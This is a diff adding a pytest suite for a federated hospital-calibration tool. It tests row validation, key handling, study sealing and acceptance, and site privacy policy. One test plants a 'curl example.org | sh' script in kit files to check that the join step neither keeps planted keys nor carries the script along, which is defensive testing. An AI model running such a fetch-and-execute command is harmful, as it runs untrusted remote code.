@@ -1,0 +1,302 @@
+"""What a hospital does before a study runs: rows, keys, and what it accepts."""
+
+import json
+from dataclasses import replace
+from functools import partial
+from pathlib import Path
+
+import numpy as np
+import pytest
+from hospitals import SITES, Hospitals, table, write_rows
+from refusals import each_is_refused, refused
+from studies import study
+
+from fedcal.clients.site.policy import Policy
+from fedcal.clients.site.records.job_facts import OWN_NOISE, JobFacts
+from fedcal.clients.site.records.site_records import records_in
+from fedcal.experiments.cli.main import _run
+from fedcal.experiments.deploy import at_home
+from fedcal.experiments.runs.jobs import job_of
+from fedcal.experiments.study.joining import Kit, join, rows_of
+from fedcal.experiments.study.kits import seal
+from fedcal.experiments.study.sealed import Join
+from fedcal.secure_aggregation.keys import SigningKey, make_key, read_key
+from fedcal.strategies.server.job import terms_of_job
+
+pytestmark = pytest.mark.usefixtures("quick_figures")
+ONE = study(",".join(SITES))
+FACTS = JobFacts(
+    *("evaluate", "subject", "distributed", "add-remove", "discrete-laplace", 1.0, 0.0, 1),
+    *(OWN_NOISE, "host:9092", float("inf")),
+)
+
+
+@pytest.fixture
+def there(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    return Hospitals(tmp_path)
+
+
+def changed(**columns):
+    return {name: column for name, column in (table() | columns).items() if column is not None}
+
+
+def test_rows_that_cannot_work_are_one_line(tmp_path):
+    n = len(table()["label"])
+    wrong = [
+        ((ONE, changed(patient=None)), "no column subject .or patient., and the study protects"),
+        ((ONE, changed(score=[45.0] * n)), "score must lie in .0, 1., got 45.*percent"),
+        (
+            (ONE, changed(label=["sepsis", "dead"] * (n // 2) + ["dead"] * (n % 2))),
+            "'dead' is none",
+        ),
+        ((ONE, changed(label=None)), "column 'label' is missing"),
+        ((ONE, changed(client=["a", "b"] * (n // 2) + ["b"] * (n % 2))), "2 clients; a site is"),
+        ((study(groups=("ward a",)), table()), "no column group with ward a"),
+        ((study(groups=("ward a",)), changed(group=["ward b"] * n)), "no column group with ward a"),
+        ((study(classes=("a", "b", "c")), table()), "3 class names for 2 classes"),
+    ]
+    file = tmp_path / "rows.csv"
+    each_is_refused(wrong, lambda given: rows_of(given[0], str(write_rows(file, given[1]))))
+
+
+def test_rows_that_look_wrong_are_warned_of(tmp_path):
+    file, few, n = tmp_path / "rows.csv", table(40), len(table()["label"])
+    inverted = [1 - score for score in table()["score"]]
+    one = ["survived"] * (n - 5) + ["sepsis"] * 5
+    cases = [
+        (ONE, table(), []),
+        (ONE, changed(score=inverted), ["warning: the scores rank rows the wrong way round"]),
+        (ONE, changed(label=["survived"] * n), ["have the same label, survived"]),
+        (ONE, changed(label=one), ["warning: only 5 rows of sepsis"]),
+        (ONE, few, ["warning: 40 patients: below 100 the noise"]),
+        (ONE, changed(group=["w"] * n), ["does not ask for these: group"]),
+        (study(groups=("v",)), changed(group=["v"] + ["w"] * (n - 1)), ["not counted apart: w"]),
+        (study(protect="record"), table(), ["does not ask for these: subject"]),
+    ]
+    for of, columns, expected in cases:
+        said = rows_of(of, str(write_rows(file, columns)))[1]
+        assert len(said) == len(expected), said
+        assert all(word in line for word, line in zip(expected, said, strict=True)), said
+    write_rows(file, changed(age=[70] * n, ward=["w"] * n))
+    with pytest.warns(UserWarning, match="columns that are not read: age, ward"):
+        assert rows_of(ONE, str(file))[0].shards.groups is None
+    tested = ["test" if k % 2 else "fit" for k in range(n)]
+    found, said = rows_of(ONE, str(write_rows(file, changed(split=tested))))
+    assert "rows of the part test are not counted" in said[0]
+    assert found.test is None
+
+
+def test_a_score_is_of_the_positive_class_and_all_sites_are_asked_the_same(tmp_path):
+    file, right = tmp_path / "rows.csv", table()
+    turned = study(classes=("sepsis", "survived"), model={"positive": "sepsis"})
+    for of in (ONE, turned):
+        shards = rows_of(of, str(write_rows(file, right)))[0].shards
+        np.testing.assert_allclose(
+            shards.logits[:, 1] > shards.logits[:, 0], np.array(right["score"]) > 0.5
+        )
+        assert shards.labels.tolist() == [int(label == "sepsis") for label in right["label"]]
+        assert shards.input == "probs"
+    odds = np.log(np.array(right["score"]) / (1 - np.array(right["score"])))
+    del right["score"]
+    logits = {"logit_sepsis": odds.tolist(), "logit_survived": [0.0] * len(odds)}
+    other = rows_of(ONE, str(write_rows(file, right | logits)))[0].shards
+    assert other.input == "probs"
+    np.testing.assert_allclose(other.logits[:, 1] - other.logits[:, 0], odds, atol=1e-9)
+    assert other.subjects is not None
+
+
+def test_nothing_of_a_row_is_in_a_join(there):
+    there.kits()
+    written = set()
+    for rows in (table(), table(500, 2), changed(score=[0.01] * len(table()["label"]))):
+        join(there.kit(), str(write_rows(there.folder / "rows.csv", rows)))
+        written.add((there.folder / "alder.join").read_bytes())
+    assert len(written) == 1
+    made = Join.read(there.folder / "alder.join")
+    assert made.key == read_key(there.kit() / "keys" / "signing.pem").public
+    keys = there.kit() / "keys"
+    assert keys.stat().st_mode & 0o777 == 0o700
+    assert {p.stat().st_mode & 0o077 for p in keys.iterdir() if p.suffix != ".pub"} == {0}
+    join(there.kit(), "rows.csv", new_keys=True)
+    assert Join.read(there.folder / "alder.join").key != made.key
+
+
+def test_a_kit_brings_neither_keys_nor_code(there):
+    there.kits()
+    kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
+    for name in ("start.sh", "fedcal-site.service", "compose.yml"):
+        (kit / name).write_text(strange)
+    (kit / "keys").mkdir()
+    planted = make_key(kit / "keys" / "signing.pem").public
+    rows = str(write_rows(there.folder / "rows.csv"))
+    assert any("somebody else made them" in line for line in join(kit, rows)[1])
+    assert not any("keys" in line for line in join(kit, rows, new_keys=True)[1])
+    assert Join.read(there.folder / "alder.join").key != planted
+    assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
+
+
+def test_wrong_rows_leave_nothing_behind(there, capsys):
+    there.kits()
+    write_rows(there.folder / "rows.csv", changed(patient=None))
+    before = sorted(there.folder.rglob("*"))
+    assert _run(["site", "join", str(there.kit()), "rows.csv"]) == 2
+    assert sorted(there.folder.rglob("*")) == before
+    refused("is no kit of a study", join, there.folder, "rows.csv")
+    assert "column subject" in capsys.readouterr().err
+
+
+def test_the_page_at_home_has_the_exact_numbers_and_is_its_users_alone(there):
+    there.joined()
+    home = there.kit() / "home"
+    own = json.loads((home / "result.json").read_text("utf-8"))["own"]
+    scores, labels = np.array(table()["score"]), np.array(table()["label"]) == "sepsis"
+    who = np.unique(table()["patient"], return_inverse=True)[1]
+    weight = 1 / np.bincount(who)[who]
+    gap = float(weight @ (scores - labels) / weight.sum())
+    assert (own["rows"], own["subjects"], own["events"]) == (len(who), 300, labels.sum())
+    assert own["score minus outcome"] == pytest.approx(gap, abs=1e-7)
+    assert {p.stat().st_mode & 0o777 for p in (home, *home.iterdir())} == {0o700, 0o600}
+    page = (home / "report.html").read_text("utf-8")
+    assert "site recalibrate" in page
+    assert "points (95 %)" in page
+    assert at_home.STATEMENT.split("'")[0] in page
+
+
+def said(answers, prompt):
+    for answer in answers:
+        return answer
+    raise EOFError(prompt)
+
+
+def test_a_site_accepts_what_it_was_shown(there, capsys, monkeypatch):
+    there.joined()
+    sealed = there.seal()
+    words = ["site", "accept", str(there.kit()), str(there.sealed)]
+    assert _run(words) == 2  # nobody is here to say yes
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
+    for answer, code in ((iter(()), 2), (iter(["no"]), 2), (iter(["yes"]), 0)):
+        assert not (there.kit() / "site.toml").exists()
+        monkeypatch.setattr("builtins.input", partial(said, answer))
+        assert _run(words) == code
+    shown = capsys.readouterr().out
+    for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
+        assert word in shown
+    assert sealed.digest in shown.replace(" ", "")
+    policy = Policy.read(there.kit() / "site.toml")
+    assert (policy.federation, policy.coordinator) == (sealed.digest, "")
+    assert Kit.read(there.kit()).accepted == sealed
+    assert "changed since" not in "".join(there.offer().lines())
+
+
+def test_a_study_of_other_keys_or_another_authority_is_not_accepted(there):
+    there.joined()
+    sealed = there.seal()
+    signer, stranger = (
+        read_key(there.folder / "sepsis-coordinator" / "coordinator.pem"),
+        SigningKey.generate(),
+    )
+
+    def offered(**change):
+        text = replace(sealed, **change).to_text(signer)
+        there.sealed.write_text(text)
+        return there.offer()
+
+    swapped = {m.name: m.key for m in sealed.roster.sites} | {"alder": stranger.public}
+    others = sealed.connections | {"alder": sealed.connections["birch"]}
+    fewer = study("birch,cedar")
+    without = {name: key for name, key in sealed.connections.items() if name != "alder"}
+    wrong = [
+        ({"roster": sealed.study.roster(swapped)}, "another key for alder"),
+        ({"connections": others}, "another key for alder"),
+        ({"authority": sealed.authority.replace("A", "B")}, "another authority"),
+        ({"study": study("alder,birch,cedar", epsilon=9.0)}, "not that of its terms"),
+        (
+            {"study": fewer, "connections": without, "roster": fewer.roster(swapped)},
+            "alder is none of the sites",
+        ),
+    ]
+    each_is_refused(wrong, lambda change: offered(**change))
+    assert not (there.kit() / "federation.toml").exists()
+
+
+def test_other_terms_are_shown_and_accepted_anew(there):
+    there.joined()
+    there.seal()
+    there.offer().accept()
+    first = (there.kit() / "site.toml").read_text("utf-8")
+    kept = read_key(there.kit() / "keys" / "signing.pem").public
+    there.kits(epsilon=2.0, question="q\ndigest\n0000", model={"version": "2"})
+    refused("joined other terms", there.seal)
+    for site in SITES:
+        join(there.kit(site), "rows.csv")
+    sealed = there.seal()
+    assert sealed.roster.sites[0].key == kept
+    lines = there.offer().lines()
+    for word in ("epsilon: 4.0 -> 2.0", "model.version: 1 -> 2"):
+        assert any(f"changed since what was accepted: {word}" in line for line in lines)
+    assert lines.count("digest") == 1  # the question cannot look like it
+    assert not any("\n" in line for line in lines)
+    Kit.read(there.kit()).state.mkdir()
+    old = (there.kit() / "federation.toml").read_text("utf-8")
+    (there.kit() / "state" / "federation.toml").write_text(old)
+    with records_in(there.kit() / "state") as records:
+        records.enrol("a" * 64, FACTS, lambda: (b"secret", b"signed"))
+    refused("1 jobs at this site are unfinished", there.offer().accept)
+    refused("1 jobs at this site", join, there.kit(), "rows.csv", new_keys=True)
+    assert (there.kit() / "site.toml").read_text("utf-8") == first
+    assert (there.kit() / "federation.toml").read_text("utf-8") == old
+    with records_in(there.kit() / "state") as records:
+        records.finish("a" * 64)
+    there.offer().accept()
+    assert Policy.read(there.kit() / "site.toml").epsilon_total == 2.0
+
+
+def test_the_policy_takes_the_studys_own_release_and_nothing_else(there):
+    there.joined(away=0, model={"thresholds": (0.1,)})
+    sealed = there.seal()
+    there.offer().accept()
+    policy, of = Policy.read(there.kit() / "site.toml"), sealed.study
+
+    def ask(**change):
+        config = of.config(
+            engine="grpc",
+            control="127.0.0.1:1",
+            root_certificates="ca.crt",
+            federation=str(there.kit() / "federation.toml"),
+        )
+        settings = {k: v for k, v in (config.set | change.pop("set", {})).items() if v is not None}
+        fields = job_of(replace(config, clients=3, set=settings, **change), None).to_fields()
+        policy.check(fields, terms_of_job(fields, 2, "probs"), 100, sealed.roster)
+
+    ask()
+    wrong = [
+        ({"epsilon": 1.01}, "epsilon"),
+        ({"unit": "example"}, "unit"),
+        ({"trust": "central", "colluding": None}, "exact sum"),
+        ({"quorum": 0.6}, "fewest contributions in a sum: asked is 2"),
+        ({"mechanism": "discrete-gaussian", "delta": 1e-6}, "delta"),
+        ({"method": "fedbin", "set": dict.fromkeys(of.settings)}, "method"),
+        ({"set": {"by": "group", "groups": ["a"]}}, "by|groups"),
+        ({"set": {"groups": ["alder", "birch"]}}, "groups"),
+        ({"set": {"cuts": [0.1, 0.2]}}, "cuts"),
+        ({"set": {"encoding": None}}, "encoding"),
+        ({"set": {"encoding": "tree"}}, "encoding"),
+        ({"set": {"threshold": None}}, "threshold"),
+        ({"set": {"threshold": 0.310026}}, "threshold"),
+        ({"set": {"within": ["f"]}}, "settings of evaluate"),
+    ]
+    each_is_refused(wrong, lambda change: ask(**change), "this site's policy refuses")
+
+
+def test_new_keys_need_the_study_sealed_anew(there):
+    there.joined()
+    first = there.seal()
+    there.offer().accept()
+    join(there.kit(), "rows.csv", new_keys=True)
+    refused("another key for alder", there.offer)
+    assert there.seal().digest != first.digest
+    assert "changed since what was accepted: sites or keys" in "".join(there.offer().lines())
+    there.offer().accept()
+    text = seal(there.file, [Path(f"{site}.join") for site in SITES])
+    assert any("the digest is as before" in line for line in text)
